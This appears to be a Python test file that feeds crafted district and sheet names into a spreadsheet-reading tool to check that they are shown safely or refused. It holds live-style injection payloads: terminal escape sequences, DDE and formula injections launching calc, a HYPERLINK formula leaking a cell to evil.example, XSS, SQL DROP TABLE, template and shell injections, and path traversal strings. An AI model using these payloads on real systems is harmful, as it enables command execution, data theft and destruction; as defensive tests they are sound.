"""Districts and sheets whose names would steer a terminal, run in a spreadsheet, or lead out of a folder."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable

from tests.hostile.case import Case, either, warned
from tests.hostile.workbook import BOOK, SHEET, book_part, sheet, text, with_cells, xlsx

_DISTRICTS = {
    "f_ansi_osc52": ("North_x001B_]52;c;ZXZpbA==_x0007_", "North\x1b]52;c;ZXZpbA==\x07"),
    "f_bidi": ("North\u202edleif", ""),
    "f_homoglyph": ("N\u043erthfield", ""),
    "f_rich_tag": ("[red]Northfield[/red]", ""),
    "f_rich_emoji": (":skull: Northfield", ""),
    "f_f_at": ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
    "f_f_cr": ("_x000D_=1+1", "\r=1+1"),
    "f_f_url": ("http://evil.example", ""),
    "f_f_array": ("{=1+1}", ""),
    "f_html_json": ("</script><script>alert(1)//", ""),
    "f_sql": ("x'); DROP TABLE obs;--", ""),
    "f_path_up": ("../../../../opt/tallybook_evil", ""),
    "f_path_bs": ("..\\\\..\\\\x", ""),
    "f_path_dot": ("..", ""),
    "f_path_opt": ("-rf", ""),
    "f_sheet_long": ("Northfield and Upper Southfield Joint District", ""),
    "f_sheet_history": ("History", ""),
    "f_null_word": ("NULL", ""),
    "f_num_name": ("00123", ""),
    "f_emoji": ("\U0001f468\u200d\U0001f469\u200d\U0001f467", ""),
    "name_ansi_title": ("North_x001B_]0;owned_x0007_", "North\x1b]0;owned\x07"),
    "name_csi_c1": ("North\u009b31mfield", ""),
    "name_backspace": ("North_x0008__x0008_field", "North\x08\x08field"),
    "name_nul": ("North_x0000_field", "North\0field"),
    "name_delete": ("North\x7ffield", ""),
    "name_line_separator": ("North\u2028field", ""),
    "name_next_line": ("North\u0085field", ""),
    "name_newline": ("North\nfield", ""),
    "name_tab": ("North\tfield", ""),
    "name_bidi_isolates": ("\u2066North\u2069\u2067field\u2069", ""),
    "name_bidi_marks": ("North\u200ffield\u061c", ""),
    "name_bidi_embedding": ("\u202aNorth\u202c\u202bfield\u202c\u202d", ""),
    "name_zero_width": ("North\u200bfield", ""),
    "name_word_joiner": ("North\u2060field", ""),
    "name_bom": ("\ufeffNorthfield", ""),
    "name_soft_hyphen": ("North\u00adfield", ""),
    "name_tags": ("Northfield\U000e0041\U000e007f", ""),
    "name_combining": ("N" + "\u0301\u0334" * 50 + "orthfield", ""),
    "name_surrogate_escaped": ("North_xD800_field", "North\ud800field"),
    "name_pair_escaped": ("North_xD83D__xDE00_", "North\U0001f600"),
    "name_escape_escaped": ("North_x005F_x001B_field", "North_x001B_field"),
    "name_noncharacter": ("North\ufdd0field", ""),
    "name_private": ("North\ue000field", ""),
    "name_replacement": ("North\ufffdfield", ""),
    "name_formula": ("=1+1", ""),
    "name_hyperlink": ('=HYPERLINK("http://evil.example?"&A1,"click")', ""),
    "name_dde": ("=cmd|'/c calc'!A0", ""),
    "name_plus": ("+cmd|'/c calc'!A0", ""),
    "name_fullwidth_equals": ("＝1+1", ""),
    "name_tab_formula": ("_x0009_=1+1", "\t=1+1"),
    "name_apostrophe": ("'=1+1", ""),
    "name_quotes": ('a";=1+1;"', ""),
    "name_semicolon": ("a;=1+1", ""),
    "name_markdown_link": ("[x](javascript:alert(1))", ""),
    "name_markdown_image": ("![x](http://evil.example/i.png)", ""),
    "name_markdown_table": ("a | b | c", ""),
    "name_html_image": ("<img src=x onerror=alert(1)>", ""),
    "name_html_attribute": ('" onmouseover="alert(1)', ""),
    "name_html_comment": ("<!--", ""),
    "name_svg": ("<svg/onload=alert(1)>", ""),
    "name_entity": ("&lt;b&gt;", ""),
    "name_cdata": ("]]>", ""),
    "name_json": ('"}],"ok":true,"x":[{"', ""),
    "name_jinja": ("{{ 7*7 }}{{ config.__class__ }}", ""),
    "name_format": ("{0.__class__} $s ${HOME}", ""),
    "name_backquotes": ("`id` $(id)", ""),
    "name_rich_link": ("[link=http://evil.example]x[/link]", ""),
    "name_rich_broken": ("[/]Northfield[/bold]", ""),
    "name_sheet_forbidden": ("a[b]c:d*e?f/g\\h", ""),
    "name_device": ("CON", ""),
    "name_dot_end": ("Northfield.", ""),
    "name_true": ("TRUE", ""),
    "name_nan": ("nan", ""),
    "name_na": ("NA", ""),
    "name_date_like": ("1-2", ""),
    "name_exponent": ("1E5", ""),
    "name_long": ("North" * 2000, ""),
    "name_long_cjk": ("北" * 5000, ""),
    "name_one_letter": ("N", ""),
    "name_arabic": ("الشمال", ""),
    "name_hebrew": ("צפון", ""),
    "name_nfd": (unicodedata.normalize("NFD", "Nörthfield"), ""),
    "name_emoji_flags": ("\U0001f1e8\U0001f1f3\U0001f1e8\U0001f1f3", ""),
    "name_keycap": ("1\ufe0f\u20e3", ""),
}  # fmt: skip
"""By id, what the cell holds, and the name that this says where a workbook writes characters by number."""

_SHEETS = {
    "g_sheetname_ansi": "R\u009b31m",
    "g_sheetname_long": "R" * 40,
    "g_sheetname_quote": "O'Brien's",
    "g_sheetname_newline": "Rep&#10;ort",
    "sheetname_empty": "",
    "sheetname_bidi": "Re\u202etrop",
    "sheetname_formula": "=1+1",
    "sheetname_html": "&lt;script>alert(1)&lt;/script>",
    "sheetname_forbidden": "a/b\\c:d*e?[f]",
    "sheetname_history": "History",
    "sheetname_blank": " ",
    "sheetname_rich": "[/red]",
    "sheetname_emoji": "\U0001f4ca",
    "sheetname_escape": "R_x001B_[31m",
    "sheetname_10k": "R" * 10_000,
}


def _districts() -> Iterable[Case]:
    """Take a name as it is, told or refused with its cell; the figure is never another."""
    for name, (written, _) in _DISTRICTS.items():
        yield either(name, f"the district {written[:40]!r}", "", with_cells(A6=text("A6", written)), label=None)


def _sheets() -> Iterable[Case]:
    for name, written in _SHEETS.items():
        part = book_part(f'<sheet name="{written}" sheetId="1" r:id="rId1"/>')
        yield either(name, f"the sheet {written[:40]!r}", "", xlsx({BOOK: part}))


def districts() -> dict[str, str]:
    """Give by id the names of districts that the outputs must show."""
    return {name: shown or written for name, (written, shown) in _DISTRICTS.items()}


CASES: tuple[Case, ...] = (
    *_districts(),
    *_sheets(),
    warned(
        "name_title",
        "a title that steers a terminal",
        "",
        xlsx({SHEET: sheet(A1=text("A1", "2024 _x001B_[31m\u202e outreach"))}),
    ),
    either("name_header", "a header that is a formula", "", with_cells(C5=text("C5", "=1+1"))),
    either(
        "name_header_steering",
        "a header that steers a terminal",
        "",
        with_cells(C5=text("C5", "Participants_x001B_]52;c;eA==_x0007_")),
    ),
    either("name_header_long", "a header of 30,000 letters", "", with_cells(C5=text("C5", "Participants " * 2300))),
    either(
        "name_note",
        "a note below the table that steers a terminal",
        "",
        with_cells(A9=text("A9", "Note: _x001B_[2J\u202e99")),
    ),
)
